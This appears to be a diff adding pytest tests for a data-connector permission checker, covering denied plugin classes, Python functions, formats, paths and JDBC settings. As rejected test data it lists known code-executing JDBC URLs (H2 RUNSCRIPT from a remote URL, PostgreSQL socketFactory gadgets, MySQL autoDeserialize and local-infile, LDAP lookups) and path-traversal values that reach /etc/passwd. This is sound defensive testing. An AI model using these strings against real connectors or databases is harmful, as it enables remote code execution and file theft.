@@ -1,0 +1,199 @@
+"""What configurations may do, by the choice of a worker's operator."""
+
+from __future__ import annotations
+
+from functools import partial
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from penstock.core.config.overrides import NONE
+from penstock.core.config.permissions.jdbc import jdbc_problem
+from penstock.core.config.permissions.rules import DEFAULT_FORMATS, Permissions
+from penstock.plugins import Plugins
+from penstock.settings.paths import path_problem
+
+CATALOG = Plugins().catalog
+FILE = "org.apache.kafka.connect.file.FileStreamSourceConnector"
+
+
+def problems(permissions: Permissions, **config: str) -> dict[str, str]:
+    return dict(permissions.problems(CATALOG, {key.replace("__", "."): value for key, value in config.items()}))
+
+
+def test_by_default_all_plugins_are_allowed() -> None:
+    assert problems(Permissions(), connector__class="FileStreamSource", file="/etc/passwd", transforms="a") == {}
+
+
+@pytest.mark.parametrize("name", ["FileStreamSource", "FileStreamSourceConnector", FILE, f" {FILE} "])
+def test_a_class_is_denied_by_any_of_its_names(name: str) -> None:
+    denying = Permissions(denied=("org.apache.kafka.connect.file.*",))
+    wanted = f"{FILE} is denied by `penstock.plugins.denied` of the worker"
+    assert problems(denying, connector__class=name) == {"connector.class": wanted}
+
+
+def test_every_setting_that_names_a_class() -> None:
+    config: Any = {
+        "connector__class": "FileStreamSink",
+        "key__converter": "org.apache.kafka.connect.json.JsonConverter",
+        "value__converter": "StringConverter",
+        "header__converter": "SimpleHeaderConverter",
+        "transforms": "a, b",
+        "transforms__a__type": "RegexRouter",
+        "transforms__b__type": "no.such.Class",
+        "predicates": "p",
+        "predicates__p__type": "TopicNameMatches",
+    }
+    found = problems(Permissions(plugins=("org.apache.kafka.connect.file.*", "*.json.*")), **config)
+    assert set(found) == {
+        *("value.converter", "header.converter"),
+        *("transforms.a.type", "transforms.b.type", "predicates.p.type"),
+    }
+    assert all("is not among the plugins that `penstock.plugins.allowed`" in each for each in found.values())
+
+
+def test_functions() -> None:
+    config: Any = {"connector__class": "FileStreamSource", "transforms": "t"}
+    config |= {"transforms__t__type": "penstock.transforms.PythonFunction"}
+    allowing = Permissions(functions=("shop.*", "lib.clean:one"))
+    for name in ("shop.a:b", "shop.a.b", "lib.clean:one", "lib.clean.one"):
+        assert problems(allowing, **config, transforms__t__function=name) == {}
+    for name in ("os:system", "shops.a:b", "lib.clean:two", "xshop.a:b"):
+        assert set(problems(allowing, **config, transforms__t__function=name)) == {"transforms.t.function"}
+    assert set(problems(Permissions(), **config, transforms__t__function="shop:a")) == {"transforms.t.function"}
+
+
+def test_classes_of_mirror_connectors_are_like_functions() -> None:
+    mirror = "org.apache.kafka.connect.mirror.MirrorSourceConnector"
+    own = "org.apache.kafka.connect.mirror.DefaultTopicFilter"
+    assert problems(Permissions(), connector__class=mirror, topic__filter__class=own) == {}
+    found = problems(Permissions(), connector__class=mirror, topic__filter__class="os.PathLike")
+    assert set(found) == {"topic.filter.class"}
+
+
+def test_formats() -> None:
+    sink = {"connector__class": "penstock.connectors.SparkSink", "path": "/x"}
+    assert problems(Permissions(), **sink) == {}
+    for format in ("Parquet", "delta", "csv"):
+        assert problems(Permissions(), **sink, format=format) == {}
+    for format in ("socket", "org.apache.spark.sql.parquet", "console", "my.DataSource"):
+        assert set(problems(Permissions(), **sink, format=format)) == {"format"}
+    assert set(problems(Permissions(formats=("csv",)), **sink)) == {"format"}
+    assert {"jdbc", "kafka"} <= set(DEFAULT_FORMATS)
+
+
+def test_kafka_as_a_format_obeys_the_override_policy() -> None:
+    source: Any = {"connector__class": "penstock.connectors.SparkSource", "format": "kafka"}
+    source |= {"option__kafka__bootstrap__servers": "h:1", "option__subscribe": "t"}
+    assert problems(Permissions(), **source) == {}
+    found = problems(Permissions(policy=NONE), **source)
+    assert "'None' policy does not allow 'bootstrap.servers'" in found["option.kafka.bootstrap.servers"]
+
+
+def test_paths(tmp_path: Path) -> None:
+    inside, outside = tmp_path / "in", tmp_path / "outside"
+    inside.mkdir()
+    outside.mkdir()
+    (inside / "link").symlink_to(outside)
+    allowed = (str(inside), "s3a://lake/raw", "hdfs:///data")
+    for good in ("a", "b/c.txt", ""):
+        assert path_problem(f"{inside}/{good}", allowed) is None
+        assert path_problem(f"file:{inside}/{good}", allowed) is None
+        assert path_problem(f"s3a://lake/raw/{good}", allowed) is None
+    for bad in (
+        f"{inside}/../outside/x",
+        f"{inside}/link/x",
+        f"{inside}2",
+        f"{inside}/{{a,b}}",
+        f"file:{inside}/%2e%2e/outside",
+        "s3a://lake/rawer",
+        "s3a://other/raw",
+        "s3://lake/raw",
+        "s3a://lake/raw/../x",
+        "/data",
+        "passwd",
+    ):
+        assert path_problem(bad, allowed), bad
+    limited = Permissions(path_problem=partial(path_problem, allowed=allowed))
+    assert problems(limited, connector__class=FILE, file="/etc/passwd") == {
+        "file": "/etc/passwd is not in the folders of `penstock.paths.allowed` of the worker"
+    }
+    source = {"connector__class": "penstock.connectors.SparkSource", "format": "json"}
+    found = problems(limited, **source, path=str(inside), checkpoint__location="/tmp", option__path="/")
+    assert set(found) == {"checkpoint.location", "option.path"}
+    sink = {"connector__class": "penstock.connectors.SparkSink", "table": "parquet.`/etc`"}
+    assert set(problems(limited, **sink)) == {"table"}
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://h/x.sql'",
+        "jdbc:H2:mem:x",
+        "jdbc:hsqldb:mem:x",
+        "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
+        "jdbc:postgresql://h/db?a=b&SSLFactory=x",
+        "jdbc:postgresql://h/db?socket%46actory=x",
+        "jdbc:postgresql://h/db?loggerLevel=TRACE&loggerFile=/srv/x.jsp",
+        "jdbc:mysql://h/db?autoDeserialize=true&queryInterceptors=x",
+        "jdbc:mysql://address=(host=h)(port=1)(autoDeserialize=true)/db",
+        "jdbc:mysql://(host=h,allowLoadLocalInfile=true)/db",
+        "jdbc:sqlserver://h;socketFactoryClass=x",
+        "jdbc:oracle:thin:@ldap://h/x",
+        "jdbc:db2://h/db:clientRerouteServerListJNDIName=ldap://h/x;",
+        "jdbc:sqlite:x.db?enable_load_extension=true",
+        "jdbc:teradata://h/browser=sh,x=1",
+    ],
+)
+def test_urls_that_execute_code(url: str) -> None:
+    found = jdbc_problem({"url": url})
+    assert found is not None
+    assert found[0] == "url"
+
+
+def test_properties_that_execute_code() -> None:
+    assert jdbc_problem({"url": "jdbc:postgresql://h/db", "socketfactory": "x"}) is not None
+    sink: Any = {"connector__class": "penstock.connectors.SparkSink", "format": "jdbc", "option__dbtable": "t"}
+    assert set(problems(Permissions(), **sink, option__url="jdbc:h2:x")) == {"option.url"}
+    assert problems(Permissions(), **sink, option__url="jdbc:postgresql://h:5432/db?ssl=true&user=me") == {}
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "jdbc:postgresql://h/db?sslmode=require",
+        "jdbc:mysql://h/db?useSSL=true",
+        "jdbc:derby:/tmp/x;create=true",
+        "jdbc:sqlserver://h;databaseName=x;encrypt=true",
+        "jdbc:oracle:thin:@//h:1521/x",
+        "jdbc:sqlite:/tmp/x.db",
+    ],
+)
+def test_ordinary_urls(url: str) -> None:
+    assert jdbc_problem({"url": url, "user": "u", "password": "p", "dbtable": "t", "driver": "d"}) is None
+
+
+JDBC = "io.confluent.connect.jdbc.JdbcSinkConnector"
+
+
+@pytest.mark.parametrize(
+    ("setting", "value"),
+    [
+        ("connection.url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x'"),
+        ("connection.url", "jdbc:postgresql://db/app?socketFactory=org.example.Evil"),
+        ("connection.allowLoadLocalInfile", "true"),
+    ],
+)
+def test_a_database_that_would_run_code(setting: str, value: str) -> None:
+    config = {"connector.class": JDBC, "connection.url": "jdbc:mysql://db/app", setting: value}
+    assert list(problems(Permissions(), **config)) == [setting]
+
+
+def test_files_of_embedded_databases_are_in_allowed_folders(tmp_path: Path) -> None:
+    permissions = Permissions(path_problem=partial(path_problem, allowed=(str(tmp_path),)))
+    for kind in ("sqlite", "derby"):
+        inside, outside = f"jdbc:{kind}:{tmp_path}/db;create=true", f"jdbc:{kind}:/etc/db"
+        assert problems(permissions, **{"connector.class": JDBC, "connection.url": inside}) == {}
+        assert list(problems(permissions, **{"connector.class": JDBC, "connection.url": outside})) == ["connection.url"]
+    assert problems(permissions, **{"connector.class": JDBC, "connection.url": "jdbc:postgresql://db/app"}) == {}
